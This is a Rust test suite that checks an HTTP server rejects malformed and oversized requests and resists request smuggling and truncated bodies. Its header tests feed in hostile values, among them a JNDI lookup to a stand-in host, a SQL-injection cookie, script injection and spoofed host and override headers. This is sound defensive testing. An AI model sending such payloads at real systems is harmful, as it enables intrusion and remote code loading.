//! Malformed HTTP requests and unusual headers. The HTTP library rejects some of them with its own response or by
//! closing the connection; none of them causes a 5xx, and the server responds to the next request.

use std::time::Duration;

use futures_util::future::join_all;
use shared::domain::rate_limit::RateLimits;
use signet_local::{ConnectionTimeouts, Options};
use signet_tests::{Stack, TestResponse};

/// Asserts that the response is a 4xx, if there is one.
fn assert_rejected(description: &str, response: Option<TestResponse>) {
    if let Some(response) = response {
        assert!((400..500).contains(&response.status), "{description}: {} {}", response.status, response.text);
        if response.header("content-type") == "application/problem+json" {
            let code = response.body["code"].as_str().unwrap_or_default().to_owned();
            response.expect_problem(response.status, &code);
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_requests_are_rejected_and_the_server_keeps_responding() {
    // Some of the requests are incomplete.
    let connection_timeouts = ConnectionTimeouts { headers: Duration::from_secs(1), ..ConnectionTimeouts::default() };
    let options = Options { connection_timeouts, rate_limits: RateLimits::UNLIMITED, ..Options::default() };
    let stack = Stack::start_with(options).await;
    let before = stack.snapshot_items().await;
    let key = stack.local.operator_api_key.expose().to_owned();
    let post = |rest: &str| {
        let head = "POST /api/v1.0/customers HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n";
        format!("{head}X-Api-Key: {key}\r\nConnection: close\r\n{rest}").into_bytes()
    };
    let get = |rest: &[u8]| [b"GET /api/v1.0/nothing HTTP/1.1\r\nHost: a\r\nConnection: close\r\n", rest].concat();
    let many = "X-Many: 1\r\n".repeat(5000);
    let long = |name: &str, length: usize| format!("{name}: {}\r\n\r\n", "a".repeat(length)).into_bytes();
    let body = r#"{"name":"Ada","email":"ada@example.com"}"#;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("an empty line", b"\r\n\r\n".to_vec()),
        ("not HTTP", b"hello\r\n\r\n".to_vec()),
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec()),
        ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec()),
        ("HTTP/0.9", b"GET /api/v1.0/products\r\n\r\n".to_vec()),
        ("an unknown HTTP version", b"GET / HTTP/9.9\r\nHost: a\r\n\r\n".to_vec()),
        ("no target", b"GET  HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("a space in the target", b"GET /api/v1.0/a b HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        (
            "non-ASCII bytes in the target",
            b"GET /api/v1.0/\xff\xfe HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".to_vec(),
        ),
        ("a NUL in the target", b"GET /api/v1.0/a\0b HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("a relative target", b"GET api/v1.0/products HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        ("a control character in the method", b"G\x7fT / HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()),
        (
            "a target of 100 KiB",
            [b"GET /".to_vec(), b"a".repeat(100 * 1024), b" HTTP/1.1\r\nConnection: close\r\n\r\n".to_vec()].concat(),
        ),
        (
            "a query of 100 KiB",
            [
                b"GET /api/v1.0/products?x=".to_vec(),
                b"a".repeat(100 * 1024),
                b" HTTP/1.1\r\nConnection: close\r\n\r\n".to_vec(),
            ]
            .concat(),
        ),
        ("a header of 8 KiB", get(&long("X-Long", 8 * 1024))),
        ("a header of 100 KiB", get(&long("X-Long", 100 * 1024))),
        ("a header of 1 MiB", get(&long("X-Long", 1024 * 1024))),
        ("an API key of 100 KiB", get(&long("X-Api-Key", 100 * 1024))),
        ("a header name of 100 KiB", get(&[&b"a".repeat(100 * 1024)[..], b": 1\r\n\r\n"].concat())),
        ("5000 headers", get(&[many.as_bytes(), b"\r\n"].concat())),
        ("a header without a name", get(b": a\r\n\r\n")),
        ("a header without a colon", get(b"no colon\r\n\r\n")),
        ("a space before the colon", get(b"X-Api-Key : a\r\n\r\n")),
        ("a folded header", get(b"X-A: a\r\n b\r\n\r\n")),
        ("a NUL in a header", get(b"X-A: a\0b\r\n\r\n")),
        ("a bare line feed in a header", get(b"X-A: a\nX-Api-Key: b\r\n\r\n")),
        ("non-ASCII bytes in a header", get(b"X-Api-Key: \xff\xfe\r\nAuthorization: \xff\r\n\r\n")),
        ("a Content-Length that is not a number", post("Content-Length: x\r\n\r\n{}")),
        ("a negative Content-Length", post("Content-Length: -1\r\n\r\n{}")),
        ("a Content-Length above 64 bits", post("Content-Length: 99999999999999999999\r\n\r\n{}")),
        (
            "two Content-Length headers",
            post(&format!("Content-Length: 2\r\nContent-Length: {}\r\n\r\n{body}", body.len())),
        ),
        (
            "Content-Length and Transfer-Encoding",
            post(&format!("Content-Length: 5\r\nTransfer-Encoding: chunked, identity\r\n\r\n{body}")),
        ),
        ("an invalid chunk size", post(&format!("Transfer-Encoding: chunked\r\n\r\nzz\r\n{body}\r\n0\r\n\r\n"))),
        ("a chunk size above 64 bits", post("Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n")),
        ("an unsupported Transfer-Encoding", post(&format!("Transfer-Encoding: gzip\r\n\r\n{body}"))),
        ("a compressed body", post("Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\u{8b}\0")),
    ];
    // All at once, because some are answered only by a time-out.
    let responses = join_all(cases.iter().map(|(_, bytes)| stack.send_raw(bytes))).await;
    for ((description, _), response) in cases.iter().zip(responses) {
        assert_rejected(description, response);
    }
    stack.operator.over_tcp().get("products").await.expect_status(200);
    stack.assert_unchanged_since(&before).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn request_smuggling_and_truncated_bodies_have_no_effect() {
    let stack = Stack::start_without_rate_limits().await;
    let before = stack.snapshot_items().await;
    let key = stack.local.operator_api_key.expose();
    // A second request in the body of the first is only a body, and malformed JSON.
    let hidden =
        format!("POST /api/v1.0/products HTTP/1.1\r\nHost: a\r\nX-Api-Key: {key}\r\nContent-Length: 2\r\n\r\n{{}}");
    let outer = format!(
        "POST /api/v1.0/license-keys/validate HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nConnection: close\r\n\
         Content-Length: {}\r\n\r\n{hidden}",
        hidden.len()
    );
    let response = stack.send_raw(outer.as_bytes()).await;
    response
        .as_ref()
        .inspect(|response| assert!(!response.text.contains("HTTP/1.1"), "one response: {}", response.text));
    if let Some(response) = response {
        response.expect_problem(400, "malformed_json");
    }
    // A truncated body is not treated as complete.
    let truncated = format!(
        "POST /api/v1.0/products HTTP/1.1\r\nHost: a\r\nX-Api-Key: {key}\r\nContent-Type: application/json\r\nConnection: close\r\n\
         Transfer-Encoding: chunked\r\n\r\n1f\r\n{}\r\n0",
        r#"{"code":"atlas","name":"Atlas"}"#
    );
    let mut stream = tokio::net::TcpStream::connect(stack.local.base_url.trim_start_matches("http://"))
        .await
        .expect("the stack accepts connections");
    tokio::io::AsyncWriteExt::write_all(&mut stream, truncated.as_bytes()).await.expect("the bytes are written");
    drop(stream);
    stack.operator.get("products").await.expect_status(200);
    stack.assert_unchanged_since(&before).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unrelated_headers_have_no_effect() {
    let stack = Stack::start_without_rate_limits().await;
    let operator = stack.operator.over_tcp();
    for (name, value) in [
        ("accept", "text/html"),
        ("accept", "*/*;q=0"),
        ("accept-encoding", "\u{1}x, *;q=9"),
        ("accept-language", &"x".repeat(4000)),
        ("content-length", "0"),
        ("cookie", "session=' OR 1=1"),
        ("expect", "200-ok"),
        ("forwarded", "for=1.2.3.4"),
        ("host", "evil.example"),
        ("if-match", "\"a\", *"),
        ("if-none-match", "\"\u{ff}\""),
        ("if-modified-since", "yesterday"),
        ("origin", "null"),
        ("origin", "https://evil.example"),
        ("range", "bytes=0-1"),
        ("referer", "javascript:alert(1)"),
        ("upgrade", "h2c"),
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("x-amzn-trace-id", "Root=<script>"),
        ("x-forwarded-for", "1.2.3.4, 5.6.7.8"),
        ("x-forwarded-host", "evil.example"),
        ("x-http-method-override", "DELETE"),
        ("x-original-url", "/api/v1.0/api-keys"),
        ("idempotency-key", "ignored by GET"),
    ] {
        let with = |request: reqwest::RequestBuilder| match reqwest::header::HeaderValue::from_bytes(value.as_bytes()) {
            Ok(value) => request.header(name, value),
            Err(_) => request,
        };
        let response = operator.send(reqwest::Method::GET, "products", with).await;
        assert_eq!(response.status, 200, "{name}: {value}: {}", response.text);
        assert_eq!(response.header("access-control-allow-origin"), "", "{name}: {value}");
        assert!(!response.text.contains("evil.example") && response.header("location").is_empty(), "{name}: {value}");
    }
}
